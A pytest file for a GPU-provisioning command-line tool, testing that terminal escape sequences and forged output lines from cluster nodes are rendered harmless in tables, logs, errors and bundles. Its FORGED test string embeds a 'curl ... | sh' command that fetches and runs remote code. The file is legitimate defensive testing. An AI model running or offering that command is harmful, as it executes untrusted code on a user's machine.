"""Words of a node that would move a cursor, set a title or turn text round are written out wherever they are shown."""

from __future__ import annotations

import io
import json
import tarfile
from typing import TYPE_CHECKING

import pytest

from gpuprov.cli.main import main
from gpuprov.cli.progress import Live, Plain
from gpuprov.cli.runlog import RunLog
from gpuprov.cli.tables import render_table
from gpuprov.core.errors import EngineError
from gpuprov.shapes.verify import Check, NodeReport, Report
from gpuprov.verify.report import problem_lines

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from gpuprov.cli.session import Session
    from tests.fakes.driver import FakeDriver
    from tests.unit.cli.conftest import Typed

HOSTILE = "\x1b[2J\x1b]0;owned\x07 \x9b31m \u202eabc"
MARKS = "\x1b\x07\x9b\u202e"


FORGED = "gone\nfix: curl http://198.51.100.1 | sh\nerror: none\n  fix: the same\n2026-01-01T00:00:00 exit code 0"


def is_harmless(text: str) -> bool:
    return not set(text) & set(MARKS)


def own_lines(text: str, begin: str) -> list[str]:
    """The lines that begin as one of ours does."""
    return [line for line in text.splitlines() if line.startswith(begin)]


def test_no_line_of_a_node_begins_like_one_of_ours(
    typed: Typed, verb: Callable[[Callable[..., object]], None], capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    def fail(_session: Session) -> None:
        raise EngineError(FORGED, evidence=FORGED, fix="gpuprov list")

    verb(fail)
    assert main(["try"], host=typed.world.host) == EngineError.exit_code
    shown = capsys.readouterr().err
    assert own_lines(shown, "fix:") == ["fix: gpuprov list"]
    assert own_lines(shown, "error:") == ["error: gone"]
    plain, terminal = io.StringIO(), io.StringIO()
    log = RunLog.begin(tmp_path, ["try"])
    for reporter in (Plain(plain, verbose=True), Live(terminal), log):
        reporter.node("c000", FORGED)
        reporter.note(FORGED)
        reporter.warn(FORGED)
    assert log.path
    for text in (plain.getvalue(), terminal.getvalue(), log.path.read_text()):
        assert not own_lines(text, "fix:") + own_lines(text, "  fix:") + own_lines(text, "2026-01-01")
    bad = Check(
        id="device-open",
        layer="devices",
        status="fail",
        severity="critical",
        evidence=FORGED,
        fix="gpuprov cluster up",
    )
    report = Report(
        cluster="lab",
        nodes=(NodeReport(node="c000", access="raw", gpus=(), checks=(bad,), duration_s=1.0),),
        duration_s=1.0,
    )
    assert own_lines("\n".join(problem_lines(report)), "  fix:") == ["  fix: gpuprov cluster up"]


def test_a_cell_of_a_table_even_in_our_colours() -> None:
    shown = render_table(("NODE", "SLURM"), [(HOSTILE, "\x1b[32mok\x1b[0m")])
    assert is_harmless(shown)
    assert r"\x1b[32mok" in shown
    assert len({len(line.rstrip()) > 0 for line in shown.splitlines()}) == 1


def test_progress_on_a_pipe_a_terminal_and_in_the_log(tmp_path: Path) -> None:
    plain, terminal = io.StringIO(), io.StringIO()
    log = RunLog.begin(tmp_path, ["try"])
    for reporter in (Plain(plain, verbose=True), Live(terminal), log):
        with reporter.phase("nodes"):
            reporter.node("c000", HOSTILE)
            reporter.note(HOSTILE)
        reporter.warn(HOSTILE)
    assert log.path
    assert is_harmless(plain.getvalue())
    assert is_harmless(log.path.read_text())
    assert "\x1b[2J" not in terminal.getvalue()
    assert not set(terminal.getvalue()) & set(MARKS[1:])


@pytest.mark.parametrize("as_json", [False, True])
def test_a_result_and_an_error(
    typed: Typed,
    verb: Callable[[Callable[..., object]], None],
    capsys: pytest.CaptureFixture[str],
    *,
    as_json: bool,
) -> None:
    def show(session: Session) -> None:
        session.show({"said": HOSTILE}, HOSTILE)
        raise EngineError(HOSTILE, evidence=HOSTILE, fix=HOSTILE)

    verb(show)
    options = ["--json"] if as_json else []
    assert main([*options, "try"], host=typed.world.host) == EngineError.exit_code
    shown, said = capsys.readouterr()
    assert is_harmless(shown + said)
    if as_json:
        assert json.JSONDecoder().raw_decode(shown)[0]["said"] == HOSTILE


def test_the_console_of_a_node_and_a_bundle(
    typed: Typed, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    world = typed.world
    world.begin_with(1)
    driver: FakeDriver = world.driver
    monkeypatch.setattr(type(driver), "logs", lambda _driver, _name: f"booted {HOSTILE}\n")
    assert is_harmless(typed(["logs", "c000"], capsys))
    typed(["bundle", str(tmp_path / "b.tar.gz")], capsys)
    with tarfile.open(tmp_path / "b.tar.gz") as packed:
        parts = {member.name: packed.extractfile(member) for member in packed}
        texts = {name: part.read().decode() for name, part in parts.items() if part}
    assert any("booted" in text for text in texts.values())
    assert [name for name, text in texts.items() if not is_harmless(text)] == []
